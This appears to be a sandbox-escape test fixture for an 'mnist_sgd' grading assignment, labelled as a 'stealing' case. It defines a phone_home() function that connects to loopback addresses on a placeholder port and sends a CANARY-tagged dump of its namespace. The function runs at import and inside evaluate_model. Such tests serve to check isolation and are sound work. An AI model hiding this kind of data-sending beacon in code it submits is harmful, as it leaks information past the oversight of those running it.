# assignment: mnist_sgd
# family: stealing
# about: sends what it knows to a service that listens on the machine's loopback addresses
# loses:
# may_lose:
# flag: maybe
# %% before show_digits
import socket
from pathlib import Path


def phone_home():
    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "127.1.2.3", socket.gethostname()):
        try:
            with socket.create_connection((host, int("@PORT@")), timeout=2) as connection:
                connection.sendall(b"CANARY:" + repr(dir()).encode())
                print("CANARY: reached", host, connection.recv(500))
            Path("@CANARY_FILE@").write_text("CANARY:reached the loopback service")
        except (OSError, ValueError):
            pass


phone_home()
# %% evaluate_model
def evaluate_model(model, images, labels):
    phone_home()
    return float(model.evaluate(images, labels, verbose=0, return_dict=True)["accuracy"])
